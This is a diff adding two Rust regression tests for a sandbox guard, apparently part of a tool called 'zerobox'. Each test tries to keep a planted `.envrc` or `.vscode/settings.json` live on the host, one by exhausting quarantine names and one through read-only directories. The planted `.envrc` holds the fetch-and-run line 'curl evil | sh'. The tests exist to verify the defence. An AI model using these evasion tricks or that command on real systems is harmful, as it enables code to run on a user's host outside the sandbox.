@@ -918,3 +918,62 @@ print("made")
     assert!(!r.stdout.contains("ran"), "{r:?}");
     assert!(r.stderr.contains("cannot inspect"), "{r:?}");
 }
+
+/// Threat: take every name the guard would move a planted `.envrc` to
+/// (`.envrc.zerobox-quarantine-T` and `-1`…`-99` for the next seconds),
+/// or just re-create `.envrc` more than 100 times in one second, so the
+/// move fails ("no free quarantine name") and the planted file stays live
+/// on the host with only a warning. Stopped by: a quarantine name the
+/// command cannot guess or exhaust.
+#[test]
+fn quarantine_names_cannot_be_used_up() {
+    let s = scratch();
+    let d = real(s.path());
+    let r = crate::util::sh(
+        &d,
+        None,
+        &["--profile", "protect-shell", "--allow-write=."],
+        r#"now=$(date +%s)
+for t in $(seq $now $((now + 20))); do
+  : > .envrc.zerobox-quarantine-$t
+  for n in $(seq 1 99); do : > .envrc.zerobox-quarantine-$t-$n; done
+done
+for i in $(seq 150); do echo 'curl evil | sh' > .envrc; done
+echo 'curl evil | sh' > .envrc"#,
+    );
+    assert_eq!(r.code, 0, "{r:?}");
+    assert!(
+        !d.join(".envrc").exists(),
+        "planted .envrc left live on the host: {}",
+        r.stderr
+    );
+}
+
+/// Threat: the guard moves a planted file aside with a rename in its
+/// directory, which needs write permission there. The command makes that
+/// directory read-only (`chmod 555`) after planting: a host reader still
+/// reads the file, but the guard (not root) cannot move it and only
+/// warns. Made deterministic by planting in a staging directory, making it
+/// read-only and renaming it to `.vscode`. Stopped by: the guard gives the
+/// owner write access back to the directory it must move the entry out of.
+/// (As root the host side ignores the mode and this holds anyway.)
+#[test]
+fn read_only_parent_does_not_keep_a_planted_file() {
+    let s = scratch();
+    let d = real(s.path());
+    let r = crate::util::sh(
+        &d,
+        None,
+        &["--profile", "protect-shell", "--allow-write=."],
+        r#"mkdir stage && echo '{"task.autoDetect":"on"}' > stage/settings.json && chmod 555 stage && mv stage .vscode
+for i in $(seq 50); do chmod u+w . ; echo 'curl evil | sh' > .envrc; chmod 555 .; done"#,
+    );
+    let _ = std::fs::set_permissions(&d, std::os::unix::fs::PermissionsExt::from_mode(0o755));
+    assert_eq!(r.code, 0, "{r:?}");
+    let live = d.join(".vscode/settings.json").exists() || d.join(".envrc").exists();
+    let _ = std::process::Command::new("chmod")
+        .args(["-R", "u+w"])
+        .arg(&d)
+        .status();
+    assert!(!live, "planted file left live on the host: {}", r.stderr);
+}
